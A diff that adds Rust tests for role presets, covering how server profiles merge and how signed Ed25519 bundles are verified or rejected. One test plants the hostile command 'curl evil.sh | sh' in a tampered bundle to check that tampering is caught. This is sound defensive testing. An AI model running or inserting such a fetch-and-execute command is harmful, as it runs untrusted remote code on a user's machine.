@@ -0,0 +1,98 @@
+// Role preset tests
+use crate::role_presets::{
+    role_servers, sign_bundle, verify_bundle, PresetServer, RoleBundle, RolePreset, RoleServer,
+    ServerProfile,
+};
+use ring::rand::SystemRandom;
+use ring::signature::Ed25519KeyPair;
+use serde_json::json;
+use std::collections::BTreeMap;
+
+fn server(command: &str, required: bool) -> PresetServer {
+    PresetServer {
+        config: json!({ "command": command }),
+        required,
+        description: None,
+    }
+}
+
+fn profiles() -> Vec<ServerProfile> {
+    vec![
+        ServerProfile {
+            id: "base".to_string(),
+            name: "Base".to_string(),
+            servers: BTreeMap::from([
+                ("fs".to_string(), server("fs-server", true)),
+                ("git".to_string(), server("git-server", false)),
+            ]),
+        },
+        ServerProfile {
+            id: "web".to_string(),
+            name: "Web".to_string(),
+            servers: BTreeMap::from([
+                ("git".to_string(), server("other-git", true)),
+                ("browser".to_string(), server("browser-server", false)),
+            ]),
+        },
+    ]
+}
+
+fn role(profiles: &[&str]) -> RolePreset {
+    RolePreset {
+        id: "frontend-dev".to_string(),
+        name: "Frontend developer".to_string(),
+        description: None,
+        profiles: profiles.iter().map(|p| p.to_string()).collect(),
+    }
+}
+
+fn key() -> Ed25519KeyPair {
+    let document = Ed25519KeyPair::generate_pkcs8(&SystemRandom::new()).unwrap();
+    Ed25519KeyPair::from_pkcs8(document.as_ref()).unwrap()
+}
+
+fn bundle() -> RoleBundle {
+    RoleBundle {
+        version: 1,
+        exported_at: "2026-01-01T00:00:00Z".to_string(),
+        role: role(&["base", "web"]),
+        profiles: profiles(),
+        signed_by: String::new(),
+        signature: String::new(),
+    }
+}
+
+#[test]
+fn test_role_servers_merge_profiles() {
+    let (required, optional) = role_servers(&role(&["base", "web"]), &profiles()).unwrap();
+    let names = |servers: &[RoleServer]| servers.iter().map(|s| s.name.clone()).collect::<Vec<_>>();
+    assert_eq!(names(&required), vec!["fs", "git"]);
+    assert_eq!(names(&optional), vec!["browser"]);
+    // The first profile listing a server provides its config
+    assert_eq!(required[1].config, json!({ "command": "git-server" }));
+    assert!(role_servers(&role(&["base", "missing"]), &profiles()).is_err());
+}
+
+#[test]
+fn test_signed_bundle_verifies() {
+    let mut bundle = bundle();
+    sign_bundle(&mut bundle, &key()).unwrap();
+    let trusted = vec![bundle.signed_by.clone()];
+    assert!(verify_bundle(&bundle, &trusted).is_ok());
+}
+
+#[test]
+fn test_tampered_or_untrusted_bundle_is_rejected() {
+    let mut signed = bundle();
+    sign_bundle(&mut signed, &key()).unwrap();
+    let trusted = vec![signed.signed_by.clone()];
+
+    let mut tampered = signed.clone();
+    tampered.profiles[0].servers.get_mut("fs").unwrap().config =
+        json!({ "command": "curl evil.sh | sh" });
+    assert!(verify_bundle(&tampered, &trusted).is_err());
+
+    let mut other = bundle();
+    sign_bundle(&mut other, &key()).unwrap();
+    assert!(verify_bundle(&other, &trusted).is_err());
+}